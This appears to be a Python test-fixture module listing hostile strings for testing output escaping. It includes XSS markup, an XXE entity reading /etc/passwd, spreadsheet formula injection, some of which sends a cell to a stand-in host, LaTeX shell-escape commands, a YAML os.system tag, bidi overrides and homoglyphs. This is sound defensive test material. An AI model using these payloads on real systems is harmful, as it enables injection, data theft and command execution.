"""Texts that mean harm, one to a name: to pages, papers, sheets, programs, terminals and eyes.

What no file of ours lets in, such as control characters, is in `STEERING` and `HALVES`; all of
`TEXTS` may stand in a model file and in a dossier.
"""

from __future__ import annotations

import unicodedata

__all__ = ["BARE_FORMULAS", "HALVES", "IDS", "LONG", "LOOKALIKES", "STEERING", "TEXTS", "TURNING"]

TURNING = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
"""The signs that change or mark the direction of writing."""

HALVES = "\ud800\udc00\udfff"
"""Halves of pairs, which JSON can write and no encoding takes."""

STEERING = tuple(
    sign
    for sign in map(chr, range(0x3000))
    if unicodedata.category(sign) in ("Cc", "Zl", "Zp") and sign not in "\n\t"
) + tuple("\u202a\u202b\u202c\u202d\u202e")
"""All of C0 and C1 but the ends of lines and tabs, the separators of lines, and what turns."""

_MARKUP = {
    "script": "<script>window.ran='script'</script>",
    "image": "<img src=x onerror=\"window.ran='image'\">",
    "picture": "\"><svg onload='window.ran=1'><use href='//evil.test/x#y'/></svg>",
    "style": "</style><style>@import url('//evil.test/a.css');body{display:none}</style>",
    "title": "</title></head><body onload=window.ran=2><base href=//evil.test/>",
    "comment": "<!-- open --> --!> <!--",
    "cdata": "<![CDATA[ in ]]> out ]]>",
    "entities": "&lt;b&gt; &amp;amp; &#x3c;i&#62; &nosuch; &copy &",
    "doctype": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "instruction": "<?xml version='1.0'?><?php echo 1 ?><% 1 %>",
    "frame": "<iframe srcdoc='<script>parent.ran=3</script>' src=//evil.test></iframe>",
    "attribute": "' autofocus onfocus=window.ran=4 x='\" onmouseover=window.ran=5 y=\"`",
    "refresh": '<meta http-equiv="refresh" content="0;url=//evil.test">',
    "link": "<a href=\"javascript:window.ran='link'\">go</a>",
}
_ADDRESSES = {
    "javascript": "javascript:window.ran='address'",
    "tabbed": "java&#9;script:window.ran='tabbed'//",
    "data": "data:text/html,<script>window.ran='data'</script>",
    "remote": "https://evil.test/pixel.png?q=<b>&r=\"'",
    "network": "\\\\evil.test\\share",
    "file": "file:///etc/passwd",
}
_TEMPLATES = {
    "jinja": "{{ 7*7 }} {% for x in y %}{{ x }} {# no #}",
    "shell": "${7*7} $(id) `id` $HOME ~root !! ; rm -rf x | y > z",
    "percent": "%s %d %n %(name)s 100% %%",
    "braces": "{0} {} {name} {0.__class__} }{ {{}} {text} {number}",
    "rich": "[red]red[/red] [link=https://evil.test]go[/link] [/] [bold [@click=x] :smile:",
    "markdown": "# head *b* _i_ [a](javascript:x) ![i](//evil.test/i.png) | c | ---",
    "backslash": "\\x1b[31m \\u202e \\N{DIGIT ONE} \\0 \\n C:\\new\\table",
    "quotes": "\"double\" 'single' ``grave'' “curled” ’ , ; : = ?",
}
BARE_FORMULAS = {
    "sum": "=1+1",
    "command": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("https://evil.test?x="&A1;"go")',
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "apostrophe": "'=1+1",
    "spaced": " =1+1",
    "full_width": "\uff1d1+1",
}
_LATEX = {
    "input": "\\input{/etc/passwd} \\include{x} \\openin1=x",
    "write": "\\immediate\\write18{touch ran} \\directlua{os.execute('touch ran')}",
    "ends": "\\end{document} \\end{tabular} \\end{tikzpicture} \\\\ \\hline",
    "signs": "50% of $5 & A_1 ^2 ~x #1 {open } closed} \\",
    "carets": "^^5cinput ^^M ^^4d",
    "def": "\\def\\x{\\x}\\x \\catcode`\\%=12 \\csname x\\endcsname",
    "ligatures": "-- --- ?` !` << >> ,, ''",
    "options": "[10pt] ] [ \\item[x]",
}
_TURNED = {
    "override": "abc \u202ednuor denrut",
    "embedding": "\u202bembedded \u202aopen",
    "isolates": "\u2067isolated \u2066twice",
    "escape": "\u2069\u2069\u202c out of \u202ethe isolate",
    "hebrew": "שלום (a) 12",
    "arabic": "العراق 34-5",
    "marks": "a\u200f!\u200e b\u061c",
}
_UNSEEN = {
    "zero_width": "no\u200bth\u200cin\u200dg\ufeff \u2060\u180e\u034f\u00adx",
    "tags": "flag \U000e0041\U000e0042\U000e007f",
    "variation": "A\ufe0f\ufe0e\U000e0100 B",
    "interlinear": "a\ufff9b\ufffac\ufffbd \ufffc\ufffd",
    "blank": "\u3164\u2800\u00a0\u2003",
    "zalgo": "Z" + "\u0301\u0320\u0489\u035c" * 40 + "algo",
    "composed": "\u00c5 A\u030a \u212b ﬁ",
    "noncharacter": "x\U0001fffe\ufdd0y",
    "private": "\ue000\U000f0000",
    "emoji": "👩\u200d👩\u200d👧 🇮🇩 1\ufe0f\u20e3",
    "script_mix": "Раypal \U0001d400 ａ ①",
}
_LINES = {
    "separator": "one\u2028two\u2029three",
    "next_line": "one\u0085two",
    "newlines": "one\n\ntwo\n- three",
    "return": "one\rtwo\r\nthree",
    "tab": "\tone\ttwo",
    "return_first": "\r=1+1",
    "tab_first": "\t=1+1",
    "line_first": "\n=1+1",
    "spaces": "  two  spaces  ",
    "ris": "one\nER  - \nTY  - BOOK",
    "yaml": "a: b\n# no\n--- \n&x *x !!python/object:os.system",
}
_WORDS = {
    "yes": "yes", "no": "No", "null": "null", "tilde": "~", "date": "2021-12-23", "octal": "010",
    "sexagesimal": "12:30:45", "hex": "0x1F", "float": "1e5", "infinity": ".inf", "nan": "NaN",
    "number": "1.0", "big": "9" * 30, "true": "TRUE()", "merge": "<<", "dash": "-", "dots": "...",
    "hash": "#hash", "device": "CON", "path": "../../x", "proto": "__proto__",
    "builder": "constructor", "escape_hex": "_x000D_ _x0041_", "zip": "a/../b", "json": '"}],x',
    "slash": "</", "long_date": "2021-02-30T25:61",
}  # fmt: skip
LONG = {
    "long": "W" * 10_000,
    "long_words": "word " * 2_000,
    "long_marks": "a\u0301" * 2_000,
}
LOOKALIKES = ("Ana", "ANA", "ana", "A\u0301na", "\u00c1na", "An\u200ba", "Аna", "Ana ")
"""Names that differ by case, normal form, letters nobody sees, or letters of another script."""

IDS = (
    "__proto__", "constructor", "toString", "hasOwnProperty", "prototype", "valueOf", "CON", "nul",
    "yes", "no", "null", "on", "self", "class", "__class__", "import", "NaN", "Infinity",
    "Ångström", "angstrom", "Angstrom", "ﬁ", "fi", "e5", "__init__", "none", "length", "x" * 200,
)  # fmt: skip
"""Words that an id may be, and that a program may take for something of its own."""

TEXTS: dict[str, str] = {
    **_MARKUP,
    **_ADDRESSES,
    **_TEMPLATES,
    **BARE_FORMULAS,
    **_LATEX,
    **_TURNED,
    **_UNSEEN,
    **_LINES,
    **_WORDS,
    **LONG,
    **{f"alike_{k}": name for k, name in enumerate(LOOKALIKES)},
}
"""All of them that may be in a file, by name."""

KINDS: dict[str, str] = {
    "markup": " ".join(_MARKUP.values()),
    "addresses": " ".join(_ADDRESSES.values()),
    "templates": " ".join(_TEMPLATES.values()),
    "latex": " ".join(_LATEX.values()),
    "turned": " ".join(_TURNED.values()),
    "unseen": " ".join(_UNSEEN.values()),
    "lines": "=1" + " ".join(_LINES.values()),
    "words": "-" + " ".join(_WORDS.values()),
    "javascript": _ADDRESSES["javascript"],
    "sum": BARE_FORMULAS["sum"],
    "long": LONG["long"],
}
"""All of a kind in one text, for outputs that take long to make."""
